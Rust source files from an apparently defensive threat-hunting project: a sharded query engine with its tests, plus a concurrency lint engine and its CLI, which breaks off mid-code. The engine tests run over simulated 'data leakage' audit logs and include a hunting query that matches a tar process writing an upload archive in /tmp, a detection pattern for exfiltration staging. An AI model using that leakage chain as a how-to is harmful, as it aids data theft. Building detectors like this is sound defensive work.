    /// filters; each shard then probes its id B-tree instead of
    /// re-running `LIKE` scans over the full entity tables — without
    /// this, per-shard entity filtering costs `shards ×` the
    /// single-store price.
    fn scatter_event_pattern(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
        mode: ExecMode,
        min_pos: usize,
    ) -> (Vec<PatternRow>, Vec<usize>) {
        let mut extra = extra.clone();
        for var in [&pat.subject_var, &pat.object_var] {
            let ids: HashSet<Value> = self
                .global_entity_filter_set(cq, var, &extra)
                .into_iter()
                .map(|e| Value::from(e.0))
                .collect();
            // The set is exactly the ids satisfying the variable's merged
            // predicate, so per shard the residual evaluation touches only
            // these rows.
            extra.insert(var.clone(), Predicate::InSet("id".into(), ids));
        }
        let extra = &extra;

        let n = self.store.shard_count();
        let run_shard = |i: usize| -> Vec<PatternRow> {
            let offset = self.store.offset(i);
            // Epoch-range restriction: a shard entirely below the cut
            // cannot contribute a fresh row — skip its scan outright.
            if self.store.offset(i + 1) <= min_pos {
                return Vec::new();
            }
            let engine = Engine::new(self.store.shard(i));
            let mut rows = engine.run_pattern(cq, pat, extra, mode);
            for r in &mut rows {
                for pos in &mut r.events {
                    *pos += offset;
                }
            }
            if offset < min_pos {
                // Boundary shard: keep only rows witnessing the fresh
                // range (compaction can merge a former seal boundary
                // into the middle of a shard).
                rows.retain(|r| r.events.iter().any(|&p| p >= min_pos));
            }
            rows
        };

        let mut per_shard: Vec<Vec<PatternRow>> =
            threatraptor_storage::sharded::fan_out(n, self.threads, run_shard);

        let counts: Vec<usize> = per_shard.iter().map(Vec::len).collect();
        // Shards are contiguous slices in time order and each shard's rows
        // are already sorted by first event position, so concatenating in
        // shard order reproduces the single-store row order exactly.
        let mut out = Vec::with_capacity(counts.iter().sum());
        for rows in &mut per_shard {
            out.append(rows);
        }
        (out, counts)
    }

    /// Path-pattern execution over all shards: hop-by-hop frontier
    /// expansion where each subject-index probe is the sorted union of
    /// per-shard index probes (global positions) — equivalent to probing
    /// one global event table.
    fn path_over_shards(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
    ) -> Vec<PatternRow> {
        // Endpoint sets come from the store-level entity tables (the
        // authoritative, complete tables in both batch and streaming
        // stores).
        let srcs = self.global_entity_filter_set(cq, &pat.subject_var, extra);
        let dsts = self.global_entity_filter_set(cq, &pat.object_var, extra);

        // The expansion probes the same hot nodes repeatedly (a node
        // reached by many partial paths is probed once per path per hop),
        // and each probe here costs shard_count index lookups + a sort.
        // The store is immutable for the duration of the call, so memoize
        // merged probe results per node.
        let memo: std::cell::RefCell<HashMap<EntityId, Vec<usize>>> =
            std::cell::RefCell::new(HashMap::new());
        expand_paths(
            pat,
            &srcs,
            &dsts,
            &|node| {
                if let Some(positions) = memo.borrow().get(&node) {
                    return positions.clone();
                }
                let mut positions: Vec<usize> = (0..self.store.shard_count())
                    .flat_map(|i| {
                        let table = self.store.shard(i).db.table(TABLE_EVENT);
                        table
                            .index_lookup("subject", &[Value::from(node.0)])
                            .unwrap_or_default()
                            .into_iter()
                            .map(move |local| self.store.offset(i) + local)
                    })
                    .collect();
                positions.sort_unstable();
                memo.borrow_mut().insert(node, positions.clone());
                positions
            },
            &|pos| self.store.event_at(pos),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_storage::store::AuditStore;
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn fixtures(shards: usize) -> (AuditStore, ShardedStore) {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(5_000)
            .build();
        let single = AuditStore::ingest(&sc.log, true);
        let sharded = ShardedStore::ingest(&sc.log, true, shards);
        (single, sharded)
    }

    #[test]
    fn fig2_parity_with_single_store() {
        let (single, sharded) = fixtures(6);
        let expected = Engine::new(&single).hunt(FIG2_TBQL).unwrap();
        let got = ShardedEngine::new(&sharded).hunt(FIG2_TBQL).unwrap();
        assert_eq!(got.rows, expected.rows);
        assert_eq!(
            got.matched_event_ids(&sharded),
            expected.matched_event_ids(&single)
        );
    }

    #[test]
    fn path_patterns_cross_shard_boundaries() {
        // Tiny shards force the attack chain to straddle shard borders;
        // the frontier expansion must still find every path.
        let (single, sharded) = fixtures(32);
        let q = "proc p[\"%/bin/tar%\"] ~>(1~2)[write] file f[\"%/tmp/upload.tar%\"] as pp1\n\
                 return p, f";
        let expected = Engine::new(&single).hunt(q).unwrap();
        let got = ShardedEngine::new(&sharded).hunt(q).unwrap();
        assert!(!got.is_empty());
        // Path rows: graph DFS order (single) vs position order (sharded)
        // — the contract is record-set parity, so compare order-normalized.
        let norm = |r: &crate::result::HuntResult| {
            let mut rows = r.rows.clone();
            rows.sort();
            rows
        };
        assert_eq!(norm(&got), norm(&expected));
    }

    #[test]
    fn all_modes_agree_with_single_store() {
        let (single, sharded) = fixtures(4);
        for mode in [
            ExecMode::Scheduled,
            ExecMode::Unscheduled,
            ExecMode::RelationalOnly,
            ExecMode::GraphOnly,
        ] {
            let expected = Engine::new(&single).hunt_mode(FIG2_TBQL, mode).unwrap();
            let got = ShardedEngine::new(&sharded)
                .hunt_mode(FIG2_TBQL, mode)
                .unwrap();
            assert_eq!(got.rows, expected.rows, "mode {mode:?}");
        }
    }

    #[test]
    fn sequential_and_threaded_fanout_agree() {
        let (_, sharded) = fixtures(8);
        let seq = ShardedEngine::with_threads(&sharded, 1)
            .hunt(FIG2_TBQL)
            .unwrap();
        let par = ShardedEngine::with_threads(&sharded, 4)
            .hunt(FIG2_TBQL)
            .unwrap();
        assert_eq!(seq.rows, par.rows);
        assert_eq!(seq.matches.len(), par.matches.len());
    }

    #[test]
    fn precision_recall_through_sharded_store() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(5_000)
            .build();
        let sharded = ShardedStore::ingest(&sc.log, true, 6);
        let r = ShardedEngine::new(&sharded).hunt(FIG2_TBQL).unwrap();
        let (p, rec) = r.precision_recall(&sharded, &sc.ground_truth("data_leakage"));
        assert_eq!((p, rec), (1.0, 1.0));
    }

    #[test]
    fn semantic_errors_propagate() {
        let (_, sharded) = fixtures(2);
        let err = ShardedEngine::new(&sharded)
            .hunt("file x read file f return f")
            .unwrap_err();
        assert!(matches!(err, EngineError::Semantic(_)));
    }

    #[test]
    fn infeasible_queries_rejected_before_scanning() {
        let (_, sharded) = fixtures(2);
        let err = ShardedEngine::new(&sharded)
            .hunt(
                "proc p read file f as e1 proc p write file g as e2 \
                 with e1 before e2, e2 before e1 return p, f, g",
            )
            .unwrap_err();
        assert!(matches!(err, EngineError::Infeasible(_)), "{err:?}");
    }

    #[test]
    fn dbm_clamp_prunes_rows_without_changing_results() {
        let (_, sharded) = fixtures(4);
        // Window the *second* pattern to the first half of the stream:
        // the DBM then bounds e1 (which must fully precede e2) to end
        // before that window closes, clamping e1's otherwise-unwindowed
        // scan.
        let mid = sharded.event_at(sharded.event_count() / 2).start;
        let tbql = format!(
            "proc p read file f as e1 \
             proc p write file g as e2 window [0, {mid}] \
             with e1 before e2 \
             return p, f, g"
        );
        let query = parse_query(&tbql).unwrap();
        let analyzed = analyze(&query).unwrap();
        let clamped_cq = compile(&analyzed).unwrap();
        assert!(clamped_cq.patterns[0].bounds.is_some());

        let mut unclamped_cq = clamped_cq.clone();
        for p in &mut unclamped_cq.patterns {
            p.bounds = None;
        }

        let engine = ShardedEngine::new(&sharded);
        let clamped = engine.execute(&clamped_cq, ExecMode::Scheduled).unwrap();
        let unclamped = engine.execute(&unclamped_cq, ExecMode::Scheduled).unwrap();

        // Identical results…
        assert_eq!(clamped.rows, unclamped.rows);
        assert_eq!(clamped.matches, unclamped.matches);
        // …with real pruning on e1's scan, visible in the stats and
        // consistent with the fetched-row difference.
        let pruned = clamped.stats.total_rows_pruned();
        assert!(pruned > 0, "expected the clamp to exclude rows");
        let fetched = |r: &HuntResult, id: &str| {
            r.stats
                .rows_fetched
                .iter()
                .find(|(p, _)| p == id)
                .map(|(_, n)| *n)
                .unwrap_or(0)
        };
        assert_eq!(fetched(&unclamped, "e1") - fetched(&clamped, "e1"), pruned);
        // Per-shard scan counts stay consistent with fetched totals.
        for (id, shards) in &clamped.stats.shard_rows {
            assert_eq!(shards.iter().sum::<usize>(), fetched(&clamped, id));
        }
    }

    #[test]
    fn pruned_counts_feed_registry_metric() {
        let (_, sharded) = fixtures(3);
        let mid = sharded.event_at(sharded.event_count() / 2).start;
        let tbql = format!(
            "proc p read file f as e1 \
             proc p write file g as e2 window [0, {mid}] \
             with e1 before e2 \
             return p, f, g"
        );
        let registry = Registry::new();
        let result = ShardedEngine::new(&sharded)
            .with_registry(&registry)
            .hunt(&tbql)
            .unwrap();
        for (pattern, pruned) in &result.stats.rows_pruned {
            let metric = registry
                .counter_labeled("engine_rows_pruned_total", &[("pattern", pattern)])
                .get();
            assert_eq!(metric, *pruned as u64, "pattern {pattern}");
        }
        assert!(result.stats.total_rows_pruned() > 0);
    }
}
