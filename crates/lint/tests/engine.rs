//! The lint engine against its fixtures and against the real tree.
//!
//! Each fixture in `crates/lint/fixtures/` isolates one rule (or one
//! scoping behavior) and documents its expected findings; this suite
//! pins them. The final tests run the engine over the actual workspace:
//! zero findings by default, and exactly the seeded lock-order mutant
//! with `--include-mutants`.

use std::path::PathBuf;

use threatraptor_lint::{lint_source, lint_tree, workspace_root, Diagnostic, Options};

fn lint_fixture(name: &str, options: Options) -> Vec<Diagnostic> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(name);
    let source = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("fixture {name}: {e}"));
    // Fixture paths sit outside crates/*/src so none of the path-based
    // exemptions (crates/check, crates/compat/sync) apply.
    lint_source(&format!("crates/lint/fixtures/{name}"), &source, options)
}

fn codes(diags: &[Diagnostic]) -> Vec<&str> {
    diags.iter().map(|d| d.code).collect()
}

#[test]
fn l001_flags_unwrap_and_expect_on_guards() {
    let diags = lint_fixture("l001_guard_unwrap.rs", Options::default());
    assert_eq!(codes(&diags), ["L001"; 4], "{diags:#?}");
    // The split chain is caught even with `.unwrap()` on its own line
    // (the awk version could not see across lines).
    assert!(
        diags.iter().any(|d| d.line == 23),
        "split-chain site missing: {diags:#?}"
    );
}

#[test]
fn l002_flags_opposite_nesting_orders() {
    let diags = lint_fixture("l002_lock_cycle.rs", Options::default());
    assert_eq!(codes(&diags), ["L002"; 2], "{diags:#?}");
    for d in &diags {
        assert!(d.message.contains("cycle"), "{d}");
    }
}

#[test]
fn l003_flags_blocking_calls_under_guards() {
    let diags = lint_fixture("l003_send_under_lock.rs", Options::default());
    assert_eq!(codes(&diags), ["L003"; 3], "{diags:#?}");
    assert!(
        diags.iter().any(|d| d.message.contains("wait_epoch_newer")),
        "{diags:#?}"
    );
    // The send after the same-depth drop (fixture line 16) is clean;
    // the recv after the *conditional* drop is not.
    assert!(diags.iter().all(|d| d.line != 16), "{diags:#?}");
}

#[test]
fn l004_flags_bare_seqcst_only() {
    let diags = lint_fixture("l004_seqcst.rs", Options::default());
    assert_eq!(codes(&diags), ["L004"], "{diags:#?}");
}

#[test]
fn l005_flags_facade_bypasses() {
    let diags = lint_fixture("l005_std_sync.rs", Options::default());
    assert_eq!(codes(&diags), ["L005"; 4], "{diags:#?}");
    let messages: Vec<&str> = diags.iter().map(|d| d.message.as_str()).collect();
    for name in ["Mutex", "atomic", "Condvar", "RwLock"] {
        assert!(
            messages.iter().any(|m| m.contains(name)),
            "no finding names {name}: {diags:#?}"
        );
    }
}

#[test]
fn cfg_test_exemption_ends_at_the_closing_brace() {
    // The awk regression: production code BELOW a test module must be
    // linted, code inside it must not.
    let diags = lint_fixture("cfg_test_scope.rs", Options::default());
    assert_eq!(codes(&diags), ["L001"], "{diags:#?}");
    assert_eq!(diags[0].line, 25, "must be the below-the-tests site");
}

#[test]
fn allow_directives_suppress_only_their_code() {
    let diags = lint_fixture("allow_directive.rs", Options::default());
    assert_eq!(codes(&diags), ["L001"], "{diags:#?}");
    assert_eq!(diags[0].line, 22, "only the mismatched-code site");
}

#[test]
fn mutant_spans_are_skipped_unless_included() {
    let skipped = lint_fixture("mutants_scope.rs", Options::default());
    assert_eq!(codes(&skipped), ["L001"], "{skipped:#?}");
    let included = lint_fixture(
        "mutants_scope.rs",
        Options {
            include_mutants: true,
        },
    );
    assert_eq!(codes(&included), ["L001"; 2], "{included:#?}");
}

#[test]
fn the_real_tree_is_clean() {
    let reports = lint_tree(&workspace_root(), Options::default()).expect("tree lints");
    let all: Vec<String> = reports
        .iter()
        .flat_map(|r| r.diagnostics.iter().map(|d| d.to_string()))
        .collect();
    assert!(all.is_empty(), "tree has findings:\n{}", all.join("\n"));
}

#[test]
fn include_mutants_finds_exactly_the_seeded_lock_order_cycle() {
    let reports = lint_tree(
        &workspace_root(),
        Options {
            include_mutants: true,
        },
    )
    .expect("tree lints");
    let all: Vec<&Diagnostic> = reports.iter().flat_map(|r| r.diagnostics.iter()).collect();
    assert!(
        !all.is_empty(),
        "the seeded pool.rs lock-order mutant must be found"
    );
    for d in &all {
        assert_eq!(d.code, "L002", "unexpected extra finding: {d}");
        assert_eq!(d.path, "crates/service/src/pool.rs", "unexpected file: {d}");
    }
}
