//! # threatraptor-lint — structured repo lints
//!
//! The concurrency-hygiene lints that used to live in `tools/lint.sh`'s
//! awk one-liner, rebuilt as a real engine: a lossy Rust lexer
//! ([`lex`]) classifies code vs comments vs string contents, scopes
//! ([`scope`]) resolve `#[cfg(test)]` / `#[cfg(check_mutants)]` item
//! spans and allow directives, and five rules ([`rules`]) emit
//! stable-coded, span-carrying [`Diagnostic`]s in the same shape as the
//! TBQL query lints (`threatraptor-tbql`'s `lint` module).
//!
//! Run as `cargo run -p threatraptor-lint` (CI does); `tools/lint.sh`
//! is now a thin wrapper. The engine lints every `.rs` file under
//! `crates/*/src/` plus the top-level `examples/` — the same scope the
//! shell script covered — and exits nonzero on any finding.
//!
//! Two fixes over the awk version worth naming:
//!
//! * test exemptions are scoped to the `#[cfg(test)]` item's *brace
//!   span*, not "everything after the first `#[cfg(test)]` line" — a
//!   file with production code below its test module is fully linted;
//! * chains split across lines (`.lock()\n.unwrap()`) are caught.
//!
//! Suppression is per-site and audited:
//! `// threatraptor-lint: allow L00X — reason`.

pub mod lex;
pub mod rules;
pub mod scope;

use std::fs;
use std::path::{Path, PathBuf};

use rules::{FileCtx, LockEdge};
use scope::{LineIndex, Scopes};

/// Diagnostic severity. Every current rule reports errors (CI gates on
/// zero findings); the variant exists so future advisory rules render
/// consistently.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Warning,
    Error,
}

impl Severity {
    pub fn label(self) -> &'static str {
        match self {
            Severity::Warning => "warning",
            Severity::Error => "error",
        }
    }
}

/// One structured lint finding with a stable code and source location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Diagnostic {
    /// Stable code (`L001`–`L005`).
    pub code: &'static str,
    pub severity: Severity,
    /// Workspace-relative path with `/` separators.
    pub path: String,
    /// 1-based.
    pub line: usize,
    /// 1-based.
    pub col: usize,
    pub message: String,
}

impl Diagnostic {
    /// Renders with a source excerpt and caret line, mirroring the TBQL
    /// lint's format:
    ///
    /// ```text
    /// error[L001]: lock guard acquired with `unwrap` — …
    ///   --> crates/service/src/pool.rs:131:27
    ///    |
    ///    |         let tx = self.tx.lock().unwrap();
    ///    |                                 ^
    /// ```
    pub fn render(&self, source: &str) -> String {
        let mut out = format!(
            "{}[{}]: {}\n  --> {}:{}:{}\n",
            self.severity.label(),
            self.code,
            self.message,
            self.path,
            self.line,
            self.col
        );
        if let Some(line_text) = source.lines().nth(self.line - 1) {
            out.push_str("   |\n");
            out.push_str(&format!("   | {}\n", line_text));
            out.push_str(&format!(
                "   | {}^\n",
                " ".repeat(self.col.saturating_sub(1))
            ));
        }
        out
    }
}

impl std::fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{}[{}]: {}:{}:{}: {}",
            self.severity.label(),
            self.code,
            self.path,
            self.line,
            self.col,
            self.message
        )
    }
}

/// Engine options.
#[derive(Debug, Clone, Copy, Default)]
pub struct Options {
    /// Lint inside `#[cfg(check_mutants)]` spans too (the seeded-bug CI
    /// job uses this to assert L002 catches the lock-order mutant).
    pub include_mutants: bool,
}

/// Lints one file's source text. `rel_path` is the workspace-relative
/// path used in diagnostics and for the L005 facade-implementation
/// exemptions.
pub fn lint_source(rel_path: &str, source: &str, options: Options) -> Vec<Diagnostic> {
    let lexed = lex::lex(source);
    let index = LineIndex::new(source);
    let scopes = Scopes::resolve(&lexed, &index);
    let ctx = FileCtx {
        path: rel_path,
        code: &lexed.code,
        index: &index,
        scopes: &scopes,
        include_mutants: options.include_mutants,
    };
    let mut edges: Vec<LockEdge> = Vec::new();
    let mut diagnostics = rules::run_rules(&ctx, &mut edges);
    diagnostics.extend(rules::l002_cycles(&ctx, &edges));
    diagnostics.sort_by_key(|d| (d.line, d.col, d.code));
    diagnostics
}

/// One linted file: its diagnostics plus the source needed to render
/// them.
#[derive(Debug)]
pub struct FileReport {
    pub path: String,
    pub source: String,
    pub diagnostics: Vec<Diagnostic>,
}

/// Lints the whole workspace at `root`: every `.rs` under
/// `crates/*/src/` and under `examples/`. Returns only files with
/// findings.
pub fn lint_tree(root: &Path, options: Options) -> std::io::Result<Vec<FileReport>> {
    let mut files = Vec::new();
    let crates_dir = root.join("crates");
    if crates_dir.is_dir() {
        for entry in fs::read_dir(&crates_dir)? {
            let path = entry?.path();
            collect_src_dirs(&path, &mut files)?;
        }
    }
    let examples = root.join("examples");
    if examples.is_dir() {
        collect_rs(&examples, &mut files)?;
    }
    files.sort();

    let mut reports = Vec::new();
    for file in files {
        let source = fs::read_to_string(&file)?;
        let rel = file
            .strip_prefix(root)
            .unwrap_or(&file)
            .to_string_lossy()
            .replace('\\', "/");
        let diagnostics = lint_source(&rel, &source, options);
        if !diagnostics.is_empty() {
            reports.push(FileReport {
                path: rel,
                source,
                diagnostics,
            });
        }
    }
    Ok(reports)
}

/// Recurses into `<crate>/src/` (and nested crates like
/// `crates/compat/*`), collecting `.rs` files.
fn collect_src_dirs(dir: &Path, out: &mut Vec<PathBuf>) -> std::io::Result<()> {
    if !dir.is_dir() {
        return Ok(());
    }
    let src = dir.join("src");
    if src.is_dir() {
        collect_rs(&src, out)?;
    }
    for entry in fs::read_dir(dir)? {
        let path = entry?.path();
        if path.is_dir()
            && path
                .file_name()
                .is_some_and(|n| n != "src" && n != "target")
        {
            collect_src_dirs(&path, out)?;
        }
    }
    Ok(())
}

fn collect_rs(dir: &Path, out: &mut Vec<PathBuf>) -> std::io::Result<()> {
    for entry in fs::read_dir(dir)? {
        let path = entry?.path();
        if path.is_dir() {
            collect_rs(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
    Ok(())
}

/// The workspace root this crate was built in: `crates/lint/../..`.
/// The binary uses it so `cargo run -p threatraptor-lint` works from
/// any cwd inside the repo.
pub fn workspace_root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .canonicalize()
        .unwrap_or_else(|_| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../.."))
}
