//! Source scopes: where rules apply and where findings are suppressed.
//!
//! Three scope kinds come out of this module:
//!
//! * **Test spans** — the brace (or statement) span of every item
//!   carrying `#[cfg(test)]`. This fixes the old `tools/lint.sh` awk
//!   bug where everything after the *first* `#[cfg(test)]` line in a
//!   file was exempt: production code *below* a test module was never
//!   linted. Here the exemption ends where the test item's braces do.
//! * **Mutant spans** — the span of every item carrying
//!   `#[cfg(check_mutants)]` (seeded bugs for the checker's mutant CI
//!   job). Skipped by default; included with `--include-mutants`.
//! * **Allow directives** — `// threatraptor-lint: allow L00X — reason`
//!   suppresses that code on its own line (trailing comment) or on the
//!   next code line (standalone comment line).
//!
//! Plus the L004 contract input: the set of lines carrying an
//! `// ordering:` rationale comment.

use crate::lex::Lexed;

/// Byte offsets of each line start; resolves offsets to (line, col).
#[derive(Debug)]
pub struct LineIndex {
    starts: Vec<usize>,
}

impl LineIndex {
    pub fn new(source: &str) -> LineIndex {
        let mut starts = vec![0];
        starts.extend(
            source
                .bytes()
                .enumerate()
                .filter(|&(_, b)| b == b'\n')
                .map(|(i, _)| i + 1),
        );
        LineIndex { starts }
    }

    /// 1-based (line, col) of a byte offset.
    pub fn locate(&self, offset: usize) -> (usize, usize) {
        let line = self.starts.partition_point(|&s| s <= offset);
        (line, offset - self.starts[line - 1] + 1)
    }

    /// 1-based line of a byte offset.
    pub fn line_of(&self, offset: usize) -> usize {
        self.locate(offset).0
    }

    /// Byte range of a 1-based line (start inclusive, end exclusive of
    /// the newline).
    pub fn line_span(&self, line: usize, total_len: usize) -> (usize, usize) {
        let start = self.starts[line - 1];
        let end = self
            .starts
            .get(line)
            .map_or(total_len, |&next| next.saturating_sub(1));
        (start, end)
    }

    pub fn line_count(&self) -> usize {
        self.starts.len()
    }
}

/// Inclusive byte range of one cfg-carrying item.
#[derive(Debug, Clone, Copy)]
pub struct Span {
    pub start: usize,
    pub end: usize,
}

impl Span {
    pub fn contains(&self, offset: usize) -> bool {
        (self.start..=self.end).contains(&offset)
    }
}

/// All scopes of one file, resolved once and queried per finding.
#[derive(Debug)]
pub struct Scopes {
    pub test_spans: Vec<Span>,
    pub mutant_spans: Vec<Span>,
    /// `(line, code)` pairs: `code` findings on `line` are suppressed.
    allows: Vec<(usize, String)>,
    /// Lines whose comment carries an `// ordering:` rationale.
    rationale_lines: Vec<usize>,
}

impl Scopes {
    pub fn resolve(lexed: &Lexed, index: &LineIndex) -> Scopes {
        let mut test_spans = Vec::new();
        let mut mutant_spans = Vec::new();
        for (needle, out) in [
            ("#[cfg(test)]", &mut test_spans),
            ("#[cfg(check_mutants)]", &mut mutant_spans),
        ] {
            let mut from = 0;
            while let Some(pos) = lexed.code[from..].find(needle) {
                let attr_start = from + pos;
                let attr_end = attr_start + needle.len();
                out.push(item_span(&lexed.code, attr_start, attr_end));
                from = attr_end;
            }
        }
        let (allows, rationale_lines) = scan_directives(lexed, index);
        Scopes {
            test_spans,
            mutant_spans,
            allows,
            rationale_lines,
        }
    }

    pub fn in_test(&self, offset: usize) -> bool {
        self.test_spans.iter().any(|s| s.contains(offset))
    }

    pub fn in_mutant(&self, offset: usize) -> bool {
        self.mutant_spans.iter().any(|s| s.contains(offset))
    }

    /// Whether `code` findings on 1-based `line` are suppressed by an
    /// allow directive.
    pub fn allowed(&self, line: usize, code: &str) -> bool {
        self.allows.iter().any(|(l, c)| *l == line && c == code)
    }

    /// Whether any of the `window` lines ending at 1-based `line`
    /// carries an `// ordering:` rationale comment.
    pub fn has_rationale_near(&self, line: usize, window: usize) -> bool {
        self.rationale_lines
            .iter()
            .any(|&l| l <= line && line - l <= window)
    }
}

/// The span covered by the item an attribute at `attr_start..attr_end`
/// decorates: further attributes are skipped, then the item runs to the
/// matching `}` of its first top-level brace, or to the terminating `;`
/// for brace-less items (`use`, statement-level attributes).
fn item_span(code: &str, attr_start: usize, attr_end: usize) -> Span {
    let bytes = code.as_bytes();
    let mut i = attr_end;
    // Skip whitespace and any further `#[...]` attributes.
    loop {
        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        if i < bytes.len() && bytes[i] == b'#' && bytes.get(i + 1) == Some(&b'[') {
            let mut depth = 0usize;
            while i < bytes.len() {
                match bytes[i] {
                    b'[' => depth += 1,
                    b']' => {
                        depth -= 1;
                        if depth == 0 {
                            i += 1;
                            break;
                        }
                    }
                    _ => {}
                }
                i += 1;
            }
        } else {
            break;
        }
    }
    // Walk the item: a `;` at paren/bracket depth 0 before any brace
    // ends it; otherwise the matching close of the first `{` does.
    let mut paren = 0i64;
    let mut brace = 0i64;
    let mut saw_brace = false;
    while i < bytes.len() {
        match bytes[i] {
            b'(' | b'[' => paren += 1,
            b')' | b']' => paren -= 1,
            b'{' => {
                brace += 1;
                saw_brace = true;
            }
            b'}' => {
                brace -= 1;
                if saw_brace && brace == 0 {
                    return Span {
                        start: attr_start,
                        end: i,
                    };
                }
            }
            b';' if !saw_brace && paren == 0 => {
                return Span {
                    start: attr_start,
                    end: i,
                };
            }
            _ => {}
        }
        i += 1;
    }
    Span {
        start: attr_start,
        end: code.len().saturating_sub(1),
    }
}

fn scan_directives(lexed: &Lexed, index: &LineIndex) -> (Vec<(usize, String)>, Vec<usize>) {
    let mut allows = Vec::new();
    let mut rationale = Vec::new();
    let total = lexed.comments.len();
    let lines = index.line_count();
    for line in 1..=lines {
        let (start, end) = index.line_span(line, total);
        let comment = &lexed.comments[start..end.max(start)];
        if comment.contains("ordering:") {
            rationale.push(line);
        }
        let Some(pos) = comment.find("threatraptor-lint:") else {
            continue;
        };
        let rest = &comment[pos + "threatraptor-lint:".len()..];
        let Some(allow_pos) = rest.find("allow") else {
            continue;
        };
        let mut codes = Vec::new();
        for token in rest[allow_pos + "allow".len()..].split(|c: char| !c.is_ascii_alphanumeric()) {
            if token.len() == 4
                && token.starts_with('L')
                && token[1..].chars().all(|c| c.is_ascii_digit())
            {
                codes.push(token.to_string());
            } else if !token.is_empty() && !codes.is_empty() {
                break; // codes come first; the em-dash reason ends them
            }
        }
        // A trailing directive covers its own line; a standalone
        // comment line covers the next line holding code.
        let code_line = &lexed.code[start..end.max(start)];
        let target = if code_line.trim().is_empty() {
            (line + 1..=lines)
                .find(|&l| {
                    let (s, e) = index.line_span(l, total);
                    !lexed.code[s..e.max(s)].trim().is_empty()
                })
                .unwrap_or(line)
        } else {
            line
        };
        for code in codes {
            allows.push((target, code));
        }
    }
    (allows, rationale)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lex::lex;

    fn scopes(src: &str) -> (Scopes, LineIndex) {
        let lexed = lex(src);
        let index = LineIndex::new(src);
        let s = Scopes::resolve(&lexed, &index);
        (s, index)
    }

    #[test]
    fn test_span_ends_at_the_closing_brace() {
        let src = "fn a() {}\n#[cfg(test)]\nmod tests {\n    fn t() {}\n}\nfn after() {}\n";
        let (s, _) = scopes(src);
        let in_mod = src.find("fn t").unwrap();
        let after = src.find("fn after").unwrap();
        assert!(s.in_test(in_mod));
        assert!(!s.in_test(after), "code after the test module is linted");
    }

    #[test]
    fn statement_level_cfg_spans_to_the_semicolon() {
        let src = "#[cfg(check_mutants)]\nlet key = (a, b);\nlet real = 1;\n";
        let (s, _) = scopes(src);
        assert!(s.in_mutant(src.find("key").unwrap()));
        assert!(!s.in_mutant(src.find("real").unwrap()));
    }

    #[test]
    fn stacked_attributes_are_skipped() {
        let src = "#[cfg(test)]\n#[allow(dead_code)]\nmod tests { fn x() {} }\nfn prod() {}\n";
        let (s, _) = scopes(src);
        assert!(s.in_test(src.find("fn x").unwrap()));
        assert!(!s.in_test(src.find("fn prod").unwrap()));
    }

    #[test]
    fn allow_directive_targets_the_next_code_line() {
        let src = "// threatraptor-lint: allow L003 — deliberate\nx.send(1);\ny.send(2);\n";
        let (s, _) = scopes(src);
        assert!(s.allowed(2, "L003"));
        assert!(!s.allowed(3, "L003"));
    }

    #[test]
    fn trailing_allow_covers_its_own_line() {
        let src = "x.send(1); // threatraptor-lint: allow L003 — fine\n";
        let (s, _) = scopes(src);
        assert!(s.allowed(1, "L003"));
    }

    #[test]
    fn rationale_lines_are_collected() {
        let src = "// ordering: Relaxed — counter only\nn.fetch_add(1, Ordering::SeqCst);\n";
        let (s, _) = scopes(src);
        assert!(s.has_rationale_near(2, 8));
        assert!(!s.has_rationale_near(20, 8));
    }
}
