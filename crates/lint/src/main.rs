//! CLI for the repo lint engine.
//!
//! ```text
//! cargo run -q -p threatraptor-lint                   # lint the tree
//! cargo run -q -p threatraptor-lint -- --include-mutants
//! cargo run -q -p threatraptor-lint -- --root /path/to/workspace
//! ```
//!
//! Exits 0 on a clean tree, 1 on any finding, 2 on usage/IO errors.

use std::path::PathBuf;
use std::process::ExitCode;

use threatraptor_lint::{lint_tree, workspace_root, Options};

fn main() -> ExitCode {
    let mut options = Options::default();
    let mut root: Option<PathBuf> = None;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--include-mutants" => options.include_mutants = true,
            "--root" => match args.next() {
                Some(path) => root = Some(PathBuf::from(path)),
                None => {
                    eprintln!("error: --root requires a path");
                    return ExitCode::from(2);
                }
            },
            "--help" | "-h" => {
                println!(
                    "threatraptor-lint: repo concurrency-hygiene lints (L001–L005)\n\
                     \n\
                     USAGE: threatraptor-lint [--include-mutants] [--root <workspace>]\n\
                     \n\
                     --include-mutants  also lint #[cfg(check_mutants)] spans (seeded bugs)\n\
                     --root <path>      workspace root (default: this crate's ../..)"
                );
                return ExitCode::SUCCESS;
            }
            other => {
                eprintln!("error: unknown argument `{other}` (try --help)");
                return ExitCode::from(2);
            }
        }
    }
    let root = root.unwrap_or_else(workspace_root);

    let reports = match lint_tree(&root, options) {
        Ok(reports) => reports,
        Err(err) => {
            eprintln!("error: failed to lint {}: {err}", root.display());
            return ExitCode::from(2);
        }
    };

    let mut findings = 0usize;
    for report in &reports {
        for diagnostic in &report.diagnostics {
            println!("{}", diagnostic.render(&report.source));
            findings += 1;
        }
    }
    if findings == 0 {
        println!("threatraptor-lint: ok (0 findings)");
        ExitCode::SUCCESS
    } else {
        eprintln!(
            "threatraptor-lint: {findings} finding{} in {} file{}",
            if findings == 1 { "" } else { "s" },
            reports.len(),
